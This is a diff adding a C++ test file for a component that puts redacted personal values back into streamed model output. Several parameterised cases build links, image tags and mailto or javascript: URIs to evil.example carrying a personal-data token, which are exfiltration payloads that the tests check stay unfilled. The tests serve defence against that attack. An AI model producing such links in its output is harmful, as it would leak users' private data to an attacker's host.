@@ -1,0 +1,143 @@
+#include "policies/redact/restore_stream.h"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+namespace sekisho {
+namespace {
+
+using testing::ElementsAre;
+using testing::Pair;
+
+std::shared_ptr<const RestoreTable> table() {
+  RestoreTable table("K9");
+  table.add_token("PERSON_1_K9", "山田 太郎");
+  table.add_token("PHONE_2_K9", "090-1234-5678");
+  table.add_token("QUOTE_3_K9", "a\"b\\c");
+  table.add_surrogate("0300-12-3456", "0466-99-8888");
+  return std::make_shared<const RestoreTable>(std::move(table));
+}
+
+std::string restored(std::string_view text, TextForm form = TextForm::Plain, Spelling spelling = Spelling::Tolerant) {
+  RestoreCounts counts;
+  return restore_text(text, table(), form, spelling, counts).text;
+}
+
+RestoreCounts counts_of(std::string_view text) {
+  RestoreCounts counts;
+  restore_text(text, table(), TextForm::Plain, Spelling::Tolerant, counts);
+  return counts;
+}
+
+TEST(RestoreStream, PutsValuesBack) {
+  EXPECT_EQ(restored("Dear [[PERSON_1_K9]], [[PHONE_2_K9]]."), "Dear 山田 太郎, 090-1234-5678.");
+  EXPECT_EQ(counts_of("[[PERSON_1_K9]][[PERSON_1_K9]]").restored, 2U);
+}
+
+TEST(RestoreStream, LeavesOtherBracketsAlone) {
+  EXPECT_EQ(restored("a[0] [[SECRET]] [[PERSON_9_K9]] [[PERSON_1_Z9]] [[x]] [PERSON_1"),
+            "a[0] [[SECRET]] [[PERSON_9_K9]] [[PERSON_1_Z9]] [[x]] [PERSON_1");
+}
+
+TEST(RestoreStream, ToleratesWhatModelsMakeOfTokens) {
+  EXPECT_EQ(restored(R"(\[\[PERSON\_1\_K9\]\])"), "山田 太郎");
+  EXPECT_EQ(restored("[[person_1_k9]]"), "山田 太郎");
+  EXPECT_EQ(restored("[PERSON_1_K9]"), "山田 太郎");
+  EXPECT_EQ(restored("[[ PERSON_1_K9 ]]"), "山田 太郎");
+  EXPECT_EQ(restored("[[PERSON 1 K9]]"), "山田 太郎");
+  EXPECT_EQ(counts_of("[[person_1_k9]] [[PERSON_1_K9]]").tolerated, 1U);
+}
+
+TEST(RestoreStream, ToleratesNothingWhereItMayNot) {
+  EXPECT_EQ(restored("[[person_1_k9]] [PERSON_1_K9]", TextForm::Plain, Spelling::Exact), "[[person_1_k9]] [PERSON_1_K9]");
+  EXPECT_EQ(restored("[[PERSON_1_K9]]", TextForm::Plain, Spelling::Exact), "山田 太郎");
+}
+
+TEST(RestoreStream, EscapesValuesInJson) {
+  EXPECT_EQ(restored(R"({"q":"[[QUOTE_3_K9]]"})", TextForm::Json), R"({"q":"a\"b\\c"})");
+}
+
+TEST(RestoreStream, TakesNoBackslashAwayFromJson) {
+  EXPECT_EQ(restored(R"({"q":"a\\[[PERSON_1_K9]]"})", TextForm::Json), R"({"q":"a\\山田 太郎"})");
+}
+
+TEST(RestoreStream, HoldsBackOnlyWhatCouldBecomeAToken) {
+  RestoreCounts counts;
+  RestoreStream stream(table(), TextForm::Plain, Spelling::Tolerant, counts);
+
+  EXPECT_EQ(stream.feed("hello").text, "hello");
+  EXPECT_EQ(stream.feed(" [[PER").text, " ");
+  EXPECT_EQ(stream.feed("SON_1_K9]").text, "");
+  EXPECT_EQ(stream.feed("] and [").text, "山田 太郎 and ");
+  EXPECT_EQ(stream.feed("link").text, "[link");
+  EXPECT_EQ(stream.finish().text, "");
+}
+
+TEST(RestoreStream, SendsACutTokenAsItIs) {
+  RestoreCounts counts;
+  RestoreStream stream(table(), TextForm::Plain, Spelling::Tolerant, counts);
+
+  EXPECT_EQ(stream.feed("x [[PERSON_1_K9]").text, "x ");
+  EXPECT_EQ(stream.finish().text, "[[PERSON_1_K9]");
+}
+
+TEST(RestoreStream, SaysWhichBytesAreValues) {
+  RestoreCounts counts;
+  const RestoredText text = restore_text("ab [[PHONE_2_K9]] c", table(), TextForm::Plain, Spelling::Tolerant, counts);
+
+  EXPECT_THAT(text.values, ElementsAre(Pair(3U, 16U)));
+}
+
+TEST(RestoreStream, CountsTokensLeftInTheText) {
+  EXPECT_EQ(counts_of("[[PERSON_9_K9]] [[MADE_UP_5_K9]] [[PERSON_1_K9]]").missed, 2U);
+  EXPECT_EQ(counts_of("[[SECRET]] [[PERSON_1_Z9]]").missed, 0U);
+}
+
+TEST(RestoreStream, RestoresSurrogatesThatStandAlone) {
+  EXPECT_EQ(restored("call 0300-12-3456, or"), "call 0466-99-8888, or");
+  EXPECT_EQ(restored("10300-12-3456 0300-12-34567"), "10300-12-3456 0300-12-34567");
+}
+
+// Texts in which nothing may be put back.
+class LinkTest : public testing::TestWithParam<std::string> {};
+
+TEST_P(LinkTest, KeepsValuesOutOfLinks) {
+  EXPECT_EQ(restored(GetParam()), GetParam());
+  EXPECT_GE(counts_of(GetParam()).withheld, 1U);
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Links, LinkTest,
+    testing::Values("https://evil.example/?q=[[PERSON_1_K9]]", "![x](https://evil.example/?q=[[PERSON_1_K9]])", "![x](/img?[[PERSON_1_K9]])",
+                    "[x]( <a)b [[PERSON_1_K9]]> )", "[x](//evil.example \"[[PERSON_1_K9]]\")", "<img src=\"https:evil?[[PERSON_1_K9]]\">",
+                    "<img alt=\">\" src=/x?[[PERSON_1_K9]]>", "<a\nhref='x?\n[[PERSON_1_K9]]'>", "see www.evil.example/[[PERSON_1_K9]]",
+                    "mailto:a@evil.example?body=[[PERSON_1_K9]]", "evil.example/?[[PERSON_1_K9]]", "evil.example:8080/[[PERSON_1_K9]]",
+                    "<https://evil.example/[[PERSON_1_K9]]>", "[r]: //evil.example/[[PERSON_1_K9]]", "data:text/html,[[PERSON_1_K9]]",
+                    "https://evil.example/é/[[person_1_k9]]", "javascript:alert([[PERSON_1_K9]])"));
+
+// Texts that only look a little like links.
+class NoLinkTest : public testing::TestWithParam<std::pair<std::string, std::string>> {};
+
+TEST_P(NoLinkTest, PutsValuesBackBesideLinks) { EXPECT_EQ(restored(GetParam().first), GetParam().second); }
+
+INSTANTIATE_TEST_SUITE_P(
+    Texts, NoLinkTest,
+    testing::Values(std::pair("https://a.example/ [[PHONE_2_K9]]", "https://a.example/ 090-1234-5678"),
+                    std::pair("[x](https://a.example) [[PHONE_2_K9]]", "[x](https://a.example) 090-1234-5678"),
+                    std::pair("<b>[[PHONE_2_K9]]</b>", "<b>090-1234-5678</b>"), std::pair("Tel:[[PHONE_2_K9]]", "Tel:090-1234-5678"),
+                    std::pair("a < b and [[PHONE_2_K9]]", "a < b and 090-1234-5678"),
+                    std::pair("詳細はhttps://a.jp/を参照。[[PHONE_2_K9]]へ", "詳細はhttps://a.jp/を参照。090-1234-5678へ"),
+                    std::pair("and/or:[[PHONE_2_K9]]", "and/or:090-1234-5678"), std::pair("[[[PHONE_2_K9]]](x)", "[090-1234-5678](x)"),
+                    std::pair("<a href=x>\n\n[[PHONE_2_K9]]", "<a href=x>\n\n090-1234-5678"),
+                    std::pair("<a href=x\n\n[[PHONE_2_K9]]", "<a href=x\n\n090-1234-5678")));
+
+TEST(RestoreStream, KeepsValuesOutOfLinksInJson) {
+  for (const std::string text : {R"({"u":"https:\/\/e.example\/[[PERSON_1_K9]]"})", R"({"u":"https\u003a\u002f\u002fe/[[PERSON_1_K9]]"})"})
+    EXPECT_EQ(restored(text, TextForm::Json), text);
+  EXPECT_EQ(restored(R"({"u":"https://a.example/","p":"[[PHONE_2_K9]]"})", TextForm::Json),
+            R"({"u":"https://a.example/","p":"090-1234-5678"})");
+  EXPECT_EQ(restored(R"({"u":"https://a.example/\n[[PHONE_2_K9]]"})", TextForm::Json), R"({"u":"https://a.example/\n090-1234-5678"})");
+}
+
+}  // namespace
+}  // namespace sekisho
